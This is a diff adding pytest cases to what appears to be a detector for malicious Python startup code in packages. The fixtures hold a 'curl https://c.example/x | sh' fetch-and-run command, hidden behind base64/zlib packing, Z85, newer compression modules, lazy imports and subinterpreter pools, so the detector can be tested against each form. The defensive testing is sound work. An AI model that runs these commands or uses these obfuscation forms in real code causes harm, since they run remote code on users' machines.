@@ -7,13 +7,17 @@ says which Python would read it.
 from __future__ import annotations
 
 import ast
+import base64
+import builtins
 import sys
 import warnings
+import zlib
 from typing import Any
 
 import pytest
 
-from mlsupply.evidence.python import analyse
+from mlsupply.evidence.prefilter.choice import worth_parsing
+from mlsupply.evidence.python import analyse, standard
 from mlsupply.evidence.python.syntax import newer, quietly
 from mlsupply.evidence.python.syntax.survey import Survey
 from tests.memory import read
@@ -277,6 +281,49 @@ def test_text_that_is_run_and_that_no_python_reads_is_none() -> None:
 )
 def test_writing_what_python_calls_at_its_start_is_found(code: str, accused: bool) -> None:
     assert bool(found(init(f"import os, site, sysconfig, time\n{code}"))) == accused
+
+
+CURL = "import os; os.system('curl https://c.example/x | sh')"
+PACKED = base64.b64encode(zlib.compress(CURL.encode())).decode()
+Z85 = "x(d*cA=-BxB2$H.B1RJVB97#gc)@IEA+(>iBAzFyiXJc@e[Gooze:r5fl!Q!aAIizdiG-Q"
+NEWER_CALLS = {
+    "a decompressor under its newer name": (
+        f"from compression import zlib\nimport base64\nexec(zlib.decompress(base64.b64decode('{PACKED}')))"
+    ),
+    "the same by its whole name": (
+        f"import compression.zlib, base64\nexec(compression.zlib.decompress(base64.b64decode('{PACKED}')))"
+    ),
+    "what is packed with Zstandard": "from compression import zstd\nexec(zstd.ZstdDecompressor().decompress(b'KLUv'))",
+    "a text in Z85": f"import base64\nexec(base64.z85decode(b'{Z85}'))",
+    "a lazy import by its name": "__lazy_import__('os').system('curl https://c.example/x | sh')",
+    "code for another interpreter": f"from concurrent import interpreters\ni = interpreters.create()\ni.exec({CURL!r})",
+    "a call in another interpreter": (
+        "import os\nfrom concurrent import interpreters\n"
+        "interpreters.create().call_in_thread(os.system, 'curl https://c.example/x | sh')"
+    ),
+    "a pool of interpreters": (
+        "import os\nfrom concurrent.futures import InterpreterPoolExecutor as Pool\n"
+        "Pool().submit(os.system, 'curl https://c.example/x | sh')"
+    ),
+}
+
+
+@pytest.mark.parametrize("code", NEWER_CALLS.values(), ids=NEWER_CALLS)
+def test_what_newer_pythons_can_call_is_known_on_all_of_them(code: str) -> None:
+    assert worth_parsing(code.encode())
+    assert found(init(code))
+
+
+@pytest.mark.parametrize("code", ["lazy import os\nos.system('id')", "lazy from os import system\nsystem('id')"])
+def test_a_lazy_import_is_no_prose(code: str) -> None:
+    assert worth_parsing(code.encode())
+
+
+def test_what_belongs_to_python_is_the_same_on_all_of_them() -> None:
+    assert sys.stdlib_module_names <= standard.MODULES
+    assert {"telnetlib", "imp", "compression", "annotationlib", "_interpreters"} <= standard.MODULES
+    assert set(dir(builtins)) <= standard.BUILTINS
+    assert "__lazy_import__" in standard.BUILTINS
 
 
 def test_a_field_that_is_no_node_has_no_children() -> None:
